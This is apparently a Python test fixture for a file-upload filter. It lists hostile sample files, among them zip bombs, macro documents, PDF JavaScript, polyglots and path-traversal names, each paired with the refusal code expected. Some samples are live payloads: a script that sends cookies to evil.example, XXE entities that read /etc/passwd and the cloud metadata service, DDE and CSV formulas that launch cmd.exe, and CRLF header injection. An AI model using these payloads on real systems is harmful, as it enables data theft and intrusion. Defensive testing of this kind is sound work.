"""Files that mean harm. Each is refused, with a code that names why, or kept as something inert."""

import io
import struct
import zipfile
from dataclasses import dataclass

from tests.files.building import (
    EICAR,
    OFFICE,
    WORD,
    XML,
    docx,
    jpeg_with_secrets,
    moving,
    object_stream,
    opendocument,
    overlapping_bomb,
    pdf,
    picture,
    png_that_says,
    pptx,
    relationships,
    stream,
    with_parts,
    xlsx,
    zipped,
)

INERT = "inert"


@dataclass(frozen=True)
class Hostile:
    """One file: the name it comes under, its bytes, and what becomes of it: the refusal's code, or INERT."""

    label: str
    name: str
    content: bytes
    outcome: str
    says: str = "application/octet-stream"


SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
LAUGHS = (
    XML + '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    f'<w:document xmlns:w="{WORD}"><w:body>&c;</w:body></w:document>'
)
NONSENSE = (
    b"\x4d\x5a\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(60) + b"This program cannot be run in DOS mode."
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)


def reading(what: str) -> str:
    return (
        f'{XML}<!DOCTYPE x [<!ENTITY s SYSTEM "{what}">]><w:document xmlns:w="{WORD}"><w:body>&s;</w:body></w:document>'
    )


def field(*runs: str) -> str:
    return "<w:p>" + "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs) + "</w:p>"


def word_relationship(kind: str, target: str) -> bytes:
    return docx({"word/_rels/document.xml.rels": relationships((kind, target, True))})


def symlink() -> bytes:
    link = zipfile.ZipInfo("word/media/a.png")
    link.external_attr = 0o120777 << 16
    return zipped([*_parts(docx()), (link, "/etc/passwd")])


def _parts(container: bytes) -> list[tuple[zipfile.ZipInfo | str, bytes | str]]:
    with zipfile.ZipFile(io.BytesIO(container)) as opened:
        return [(name, opened.read(name)) for name in opened.namelist()]


def encrypted(container: bytes) -> bytes:
    """The flag of encryption on each entry, in both places."""
    changed = bytearray(container)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = changed.find(mark)
        while place >= 0:
            changed[place + at] |= 1
            place = changed.find(mark, place + 4)
    return bytes(changed)


def lying_about_size() -> bytes:
    """A part that says it is ten bytes long and unpacks to much more."""
    made = bytearray(docx({"word/media/a.png": b"A" * 5_000_000}))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = made.find(mark)
        while place >= 0:
            if struct.unpack_from("<L", made, place + at)[0] == 5_000_000:
                struct.pack_into("<L", made, place + at, 10)
            place = made.find(mark, place + 4)
    return bytes(made)


def escaped_stream() -> bytes:
    """A program in an object stream, both by names with escapes."""
    return pdf(object_stream(b"<</#53/J#61vaScript/J#53 (app.alert\\(1\\))>>", dictionary=b"/Type/Obj#53tm"))


def bomb_of_objects() -> bytes:
    return pdf(stream(b"20 0 " + b" " * 150_000_000, b"/Type/ObjStm/N 1/First 5"))


HOSTILE = [
    # Malware
    Hostile("EICAR", "eicar.txt", EICAR, "malware", "text/plain"),
    Hostile("EICAR inside a Word document", "letter.docx", docx({"word/media/a.png": EICAR}), "malware"),
    Hostile(
        "EICAR across two pieces of a picture's tail",
        "photo.png",
        picture() + b"\0" * (65_536 - 200) + EICAR,
        "malware",
        "image/png",
    ),
    Hostile("EICAR in an archive", "files.zip", zipped({"eicar.com": EICAR}), "kind", "application/zip"),
    Hostile("EICAR in an archive under a Word name", "files.docx", zipped({"eicar.com": EICAR}), "mismatch"),
    # Containers
    Hostile("zip bomb as a Word document", "letter.docx", docx({"word/media/a.png": b"\0" * 60_000_000}), "bomb"),
    Hostile(
        "zip bomb of many parts",
        "letter.docx",
        docx({f"word/media/{n}.png": b"\0" * 1_900_000 for n in range(140)}),
        "bomb",
    ),
    Hostile("too many parts", "letter.docx", docx({f"word/media/{n}.png": b"" for n in range(3_100)}), "too_many"),
    Hostile("a part that lies about its size", "letter.docx", lying_about_size(), "damaged"),
    Hostile("overlapping entries", "letter.docx", overlapping_bomb(), "bomb"),
    Hostile("archive inside a document", "letter.docx", docx({"word/media/a.png": zipped({"a": "b"})}), "hidden"),
    Hostile("slip out of the folder", "letter.docx", docx({"../../../etc/cron.d/x.xml": "<a/>"}), "slip"),
    Hostile("absolute path", "letter.docx", docx({"/etc/cron.d/x.xml": "<a/>"}), "slip"),
    Hostile("path with a drive", "letter.docx", docx({"C:/Windows/x.xml": "<a/>"}), "slip"),
    Hostile("symbolic link", "letter.docx", symlink(), "link"),
    Hostile("encrypted parts", "letter.docx", encrypted(docx()), "protected"),
    Hostile("two parts that differ in case only", "letter.docx", docx({"WORD/document.xml": "<a/>"}), "duplicate"),
    Hostile("program behind the container", "letter.docx", docx() + NONSENSE, "hidden"),
    Hostile("page before the container", "letter.docx", HTML + docx(), "mismatch"),
    Hostile(
        "training package with a reading manifest",
        "course.zip",
        zipped({"imsmanifest.xml": reading("file:///etc/passwd")}),
        "kind",
    ),
    # Office
    Hostile("Word with macros", "letter.docx", docx({"word/vbaProject.bin": OLE}), "macros"),
    Hostile("Word with macros under its own name", "letter.docm", docx({"word/vbaProject.bin": OLE}), "kind"),
    Hostile(
        "docm renamed to docx",
        "letter.docx",
        docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
    ),
    Hostile(
        "template from elsewhere",
        "letter.docx",
        word_relationship("attachedTemplate", "https://evil.example/t.dotm"),
        "external",
    ),
    Hostile(
        "template from a share",
        "letter.docx",
        word_relationship("attachedTemplate", "file://evil.example/t.dotm"),
        "external",
    ),
    Hostile(
        "picture from elsewhere",
        "letter.docx",
        word_relationship("image", "https://evil.example/pixel.png"),
        "external",
    ),
    Hostile(
        "program called by a link", "letter.docx", word_relationship("hyperlink", "ms-msdt:/id PCWDiagnostic"), "link"
    ),
    Hostile("link to a share", "letter.docx", word_relationship("hyperlink", "file://evil.example/share/x"), "link"),
    Hostile("embedded program", "letter.docx", docx({"word/embeddings/oleObject1.bin": OLE}), "macros"),
    Hostile("program under a picture's name", "letter.docx", docx({"word/media/a.png": NONSENSE}), "hidden"),
    Hostile("ActiveX", "letter.docx", docx({"word/activeX/activeX1.xml": "<a/>"}), "macros"),
    Hostile("page taken into a document", "letter.docx", docx({"word/afchunk.html": HTML.decode()}), "macros"),
    Hostile("billion laughs", "letter.docx", docx(document=LAUGHS), "dtd"),
    Hostile("entity that reads a file", "letter.docx", docx(document=reading("file:///etc/passwd")), "dtd"),
    Hostile(
        "entity that asks a server", "letter.docx", docx(document=reading("http://169.254.169.254/latest/")), "dtd"
    ),
    Hostile(
        "entity in UTF-16",
        "letter.docx",
        docx({"word/styles.xml": reading("file:///c:/x").replace("UTF-8", "UTF-16").encode("utf-16")}),
        "dtd",
    ),
    Hostile("entity among the relationships", "letter.docx", docx({"word/_rels/document.xml.rels": LAUGHS}), "dtd"),
    Hostile(
        "DDE field in pieces",
        "letter.docx",
        docx(body=field("D", 'DEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
        "calls",
    ),
    Hostile("workbook with a DTD", "list.xlsx", with_parts(xlsx(), {"xl/sharedStrings.xml": LAUGHS}), "dtd"),
    Hostile(
        "workbook with DDE", "list.xlsx", with_parts(xlsx(), {"xl/externalLinks/externalLink1.xml": "<a/>"}), "external"
    ),
    Hostile(
        "workbook that takes from elsewhere",
        "list.xlsx",
        with_parts(
            xlsx(),
            {
                "xl/worksheets/_rels/sheet1.xml.rels": relationships(
                    ("externalLinkPath", "https://evil.example/a.xlsx", True)
                )
            },
        ),
        "external",
    ),
    Hostile("Excel 4 macros", "list.xlsx", with_parts(xlsx(), {"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
    Hostile(
        "shared strings that unpack to much",
        "list.xlsx",
        with_parts(xlsx(), {"xl/sharedStrings.xml": XML + "<sst>" + "<si/>" * 12_000_000 + "</sst>"}),
        "bomb",
    ),
    Hostile(
        "workbook that names a billion cells",
        "list.xlsx",
        with_parts(
            xlsx(),
            {
                "xl/worksheets/sheet1.xml": XML
                + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
            },
        ),
        INERT,
    ),
    Hostile("presentation with a program", "talk.pptx", pptx({"ppt/vbaProject.bin": OLE}), "macros"),
    Hostile(
        "OpenDocument with Basic", "letter.odt", opendocument(extra={"Basic/Standard/Module1.xml": "<a/>"}), "macros"
    ),
    Hostile(
        "OpenDocument with an event",
        "letter.odt",
        opendocument(content='<script:event-listener script:event-name="dom:load"/>'),
        "macros",
    ),
    Hostile("OpenDocument with DDE", "list.ods", opendocument("spreadsheet", content="<table:dde-link/>"), "calls"),
    Hostile(
        "OpenDocument that fetches",
        "letter.odt",
        opendocument(content='<draw:image xlink:href="https://evil.example/p.png"/>'),
        "external",
    ),
    Hostile("document from before 2007", "letter.doc", OLE, "kind", "application/msword"),
    Hostile("document with a password", "letter.docx", OLE, "protected"),
    Hostile(
        "declared as one kind and built as another",
        "letter.docx",
        docx(main=f"{OFFICE}spreadsheetml.sheet.main+xml"),
        "mismatch",
    ),
    # PDF
    Hostile(
        "PDF that runs JavaScript", "form.pdf", pdf(b"<</S/JavaScript/JS(app.alert\\(1\\))>>", trailer=b""), "program"
    ),
    Hostile(
        "PDF that runs it when opened",
        "form.pdf",
        pdf(b"<</OpenAction 5 0 R>>", b"<</S /JavaScript /JS 6 0 R>>"),
        "program",
    ),
    Hostile("PDF with names in disguise", "form.pdf", pdf(b"<</S/J#61vaScript/#4a#53(x)>>"), "program"),
    Hostile(
        "PDF with a program in an object stream", "form.pdf", pdf(object_stream(b"<</S/JavaScript/JS(x)>>")), "program"
    ),
    Hostile("PDF with both", "form.pdf", escaped_stream(), "program"),
    Hostile(
        "PDF with a program inside what looks like a string",
        "form.pdf",
        pdf(b"( 9 0 obj <</S/JavaScript/JS(x)>> endobj"),
        "program",
    ),
    Hostile("PDF that starts a program", "form.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>"), "program"),
    Hostile("PDF with actions of its pages", "form.pdf", pdf(b"<</Type/Page/AA<</O 5 0 R>>>>"), "program"),
    Hostile("PDF that sends a form away", "form.pdf", pdf(b"<</S /SubmitForm/F(https://evil.example)>>"), "program"),
    Hostile("PDF with an XFA form", "form.pdf", pdf(b"<</AcroForm<</XFA 5 0 R>>>>"), "program"),
    Hostile(
        "PDF that carries a file",
        "form.pdf",
        pdf(b"<</Names<</EmbeddedFiles 5 0 R>>>>", stream(NONSENSE, b"/Type/EmbeddedFile")),
        "embedded",
    ),
    Hostile("PDF with rich media", "form.pdf", pdf(b"<</Subtype/RichMedia/RichMediaContent 5 0 R>>"), "embedded"),
    Hostile("encrypted PDF", "form.pdf", pdf(b"<</Filter/Standard/V 2>>", trailer=b"/Encrypt 4 0 R"), "protected"),
    Hostile(
        "PDF whose objects are packed twice",
        "form.pdf",
        pdf(b"<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]/Length 4>>\nstream\n7801\nendstream"),
        "unusual",
    ),
    Hostile(
        "PDF whose stream hides its type",
        "form.pdf",
        pdf(object_stream(b"<</S/JavaScript>>", dictionary=b"/Type 9 0 R")),
        "unusual",
    ),
    Hostile("PDF bomb", "form.pdf", bomb_of_objects(), "bomb"),
    Hostile("PDF and archive at once", "form.pdf", pdf() + zipped({"a.html": HTML}), "hidden"),
    Hostile("page as a PDF", "form.pdf", HTML, "mismatch", "application/pdf"),
    # Pictures
    Hostile("SVG with a script", "logo.svg", SVG, "kind", "image/svg+xml"),
    Hostile("SVG as PNG", "logo.png", SVG, "mismatch", "image/png"),
    Hostile("page as PNG", "logo.png", HTML, "mismatch", "image/png"),
    Hostile(
        "GIF and JavaScript at once", "logo.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//", "damaged", "image/gif"
    ),
    Hostile("PNG with a page behind it", "logo.png", picture() + HTML, INERT, "image/png"),
    Hostile(
        "JPEG with an archive behind it", "photo.jpg", picture("JPEG") + zipped({"a.html": HTML}), INERT, "image/jpeg"
    ),
    Hostile("JPEG with a place and a program", "photo.jpg", jpeg_with_secrets(), INERT, "image/jpeg"),
    Hostile("flood of pixels", "photo.png", png_that_says(60_000, 60_000), "too_many_pixels", "image/png"),
    Hostile(
        "flood just below what Pillow allows", "photo.png", png_that_says(9_000, 9_000), "too_many_pixels", "image/png"
    ),
    Hostile("frames of a GIF", "logo.gif", moving("GIF", 200), "animated", "image/gif"),
    Hostile("frames of a PNG", "logo.png", moving("PNG"), "animated", "image/png"),
    Hostile("frames of a WebP", "logo.webp", moving("WEBP"), "animated", "image/webp"),
    Hostile("JPEG cut short", "photo.jpg", picture("JPEG", (400, 300))[:900], "damaged", "image/jpeg"),
    Hostile("JPEG under a PNG's name", "photo.png", picture("JPEG"), "mismatch", "image/png"),
    Hostile("Windows program as a picture", "photo.jpg", NONSENSE, "mismatch", "image/jpeg"),
    Hostile("Linux program as a picture", "photo.png", b"\x7fELF\x02\x01\x01" + bytes(200), "mismatch", "image/png"),
    Hostile(
        "Java program as a picture",
        "photo.png",
        zipped({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}),
        "mismatch",
    ),
    Hostile("installer as a picture", "photo.jpg", OLE, "mismatch", "image/jpeg"),
    Hostile("shortcut as a picture", "photo.png", b"\x4c\0\0\0\x01\x14\x02\0" + bytes(100), "mismatch", "image/png"),
    Hostile("icon as a picture", "photo.png", b"\0\0\x01\0\x01\0\x10\x10" + bytes(100), "mismatch", "image/png"),
    Hostile("batch file as a picture", "photo.png", b"@echo off\r\nformat c:", "mismatch", "image/png"),
    # Text
    Hostile("page as text", "notes.txt", HTML, "not_text", "text/plain"),
    Hostile("page as a table", "list.csv", b"\xef\xbb\xbf  " + SCRIPT, "not_text", "text/csv"),
    Hostile("HTML application as text", "notes.txt", b"<HTA:APPLICATION/>" + SCRIPT, "not_text"),
    Hostile("batch file as text", "notes.txt", b"@echo off\r\ncalc", "not_text"),
    Hostile("script further down in a text", "notes.txt", b"Minutes of the meeting.\n" + SCRIPT, INERT, "text/html"),
    Hostile("page in UTF-7", "notes.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", INERT, "text/html"),
    Hostile("table in UTF-16", "list.csv", "Name\n=cmd|' /C calc'!A0\n".encode("utf-16"), "not_text", "text/csv"),
    Hostile("bytes of zero in a text", "notes.txt", b"Minutes\0<script>", "not_text"),
    Hostile("table with DDE", "list.csv", b"Name\n=cmd|' /C calc'!A0\n", "formula", "text/csv"),
    Hostile("table with DDE behind a plus", "list.csv", b"Name\n\"  +cmd|' /C calc'!A0\"\n", "formula", "text/csv"),
    Hostile(
        "table that sends data away",
        "list.csv",
        b'Name\n"=HYPERLINK(""https://evil.example/""&A1)"\n',
        "formula",
        "text/csv",
    ),
    # Names and sizes
    Hostile("two endings", "invoice.pdf.exe", pdf(), "kind"),
    Hostile("an ending in between", "setup.exe.pdf", pdf(), INERT, "application/x-msdownload"),
    Hostile("letters that turn the reading direction", "photo\u202egpj.exe", picture("JPEG"), "kind", "image/jpeg"),
    Hostile("zero byte in the name", "photo.exe\0.png", picture(), INERT, "image/png"),
    Hostile("name of 5,000 letters", "a" * 5_000 + ".png", picture(), INERT, "image/png"),
    Hostile("name that climbs", "../../../../etc/passwd.png", picture(), INERT, "image/png"),
    Hostile("name that climbs in Windows", "..\\..\\Windows\\win.png", picture(), INERT, "image/png"),
    Hostile("device of Windows", "CON.png", picture(), INERT, "image/png"),
    Hostile("dots at the end", "photo.png. . .", picture(), INERT, "image/png"),
    Hostile("name that breaks a header", 'a"\r\nSet-Cookie: x=1;.png', picture(), INERT, "image/png"),
    Hostile("says that it is a page", "photo.png", picture(), INERT, "text/html"),
    Hostile("no content", "photo.png", b"", "empty", "image/png"),
    Hostile("larger than the limit", "notes.txt", b"a" * (21 * 1024 * 1024), "too_large", "text/plain"),
]
